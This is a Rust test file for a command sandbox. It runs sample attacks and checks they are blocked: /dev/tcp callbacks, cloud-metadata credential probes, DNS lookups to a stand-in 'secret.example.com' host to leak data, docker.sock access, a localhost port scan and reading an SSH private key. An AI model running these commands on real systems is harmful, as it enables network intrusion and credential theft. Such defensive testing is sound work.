//! Attacks over the network: out to anybody, or in to what listens on the machine.

use super::{Victim, bash};

#[tokio::test(flavor = "multi_thread")]
async fn calls_home_over_tcp_and_udp() {
    let victim = Victim::plain().await;
    let tcp = victim.listeners.tcp.local_addr().unwrap().port();
    let udp = victim.listeners.udp.local_addr().unwrap().port();
    let after = victim
        .suffers(&[
            bash(&format!("(echo x >/dev/tcp/127.0.0.1/{tcp}) && echo REACHED; echo tried")),
            bash(&format!("(echo x >/dev/udp/127.0.0.1/{udp}); echo tried")),
            bash(&format!(
                "python3 - <<'E'\nimport socket\nfor host in ['127.0.0.1', '::1', 'localhost', \
                 '0.0.0.0', '10.0.2.2', '172.17.0.1', '1.1.1.1']:\n    \
                 try:\n        socket.create_connection((host, {tcp}), 0.3); print('REACHED', host)\n    \
                 except OSError as e: print(host, e)\nE\necho tried"
            )),
        ])
        .await;
    after.was_held().saw("tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn asks_the_cloud_for_credentials() {
    let after = Victim::plain()
        .await
        .suffers(&[bash(
            "for a in 169.254.169.254 169.254.170.2; do \
             (timeout 1 bash -c \"echo x >/dev/tcp/$a/80\") && echo REACHED; done; echo tried",
        )])
        .await;
    after.was_held().saw("tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn resolves_names_to_smuggle_words_out() {
    let after = Victim::plain()
        .await
        .suffers(&[bash(
            "python3 -c 'import socket; socket.getaddrinfo(\"secret.example.com\", 80); \
             print(\"REACHED\")'; getent hosts example.com && echo REACHED; echo tried",
        )])
        .await;
    after.was_held().saw("tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn reaches_a_socket_of_the_machine_by_path_or_name() {
    let victim = Victim::plain().await;
    let path = victim.world.path("host.sock").display().to_string();
    let name = victim.listeners.abstract_name.clone();
    let after = victim
        .suffers(&[bash(&format!(
            "python3 - <<'E'\nimport socket\nfor address in ['{path}', '\\0{name}', \
             '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', \
             '/run/systemd/private']:\n    s = socket.socket(socket.AF_UNIX)\n    \
             try: s.connect(address); print('REACHED', repr(address))\n    \
             except OSError as e: print(e)\nE\necho tried"
        ))])
        .await;
    after.was_held().saw("tried");
}

#[tokio::test(flavor = "multi_thread")]
async fn finds_the_worker_s_door_and_knocks() {
    let after = Victim::plain()
        .await
        .suffers(&[bash(
            "python3 - <<'E'\nimport socket\nopen_ports = []\nfor port in range(1024, 65536):\n    \
             try: s = socket.socket(); s.settimeout(0.05)\n    \
             except PermissionError: break\n    \
             if s.connect_ex(('127.0.0.1', port)) == 0 and s.getsockname() != s.getpeername():\n        \
             open_ports.append(port)\n    s.close()\n\
             print('REACHED' if open_ports else 'nobody', open_ports)\nE",
        )])
        .await;
    after.was_held().saw("nobody");
}

/// As strace saw it: no process that came of the command connected to anything.
#[tokio::test(flavor = "multi_thread")]
async fn no_process_of_a_command_ever_connects_says_strace() {
    let mut victim = Victim::plain().await;
    let trace = victim.world.path("trace");
    let tcp = victim.listeners.tcp.local_addr().unwrap().port();
    let secret = victim.world.path("home/.ssh/id_ed25519").display().to_string();
    victim.under =
        ["strace", "-f", "-qq", "-z", "-e", "trace=connect,openat,open", "-s", "300", "-o"]
            .map(str::to_owned)
            .into();
    victim.under.push(trace.display().to_string());
    let after = victim
        .suffers(&[bash(&format!(
            "python3 -c 'import socket; s = socket.socket(); print(s.connect_ex((\"127.0.0.1\", {tcp})))'; \
             cat {secret}; cat /usr/include/stdio.h >/dev/null; echo tried"
        ))])
        .await;
    after.was_held().saw("tried");
    // `-z`: only calls that succeeded are in the trace.
    let trace = std::fs::read_to_string(trace).unwrap();
    assert!(trace.contains("/usr/include/stdio.h\""), "strace saw nothing of the command");
    assert!(!trace.contains(&format!("sin_port=htons({tcp})")), "a command connected");
    assert!(!trace.contains("id_ed25519"), "a command opened a key");
}
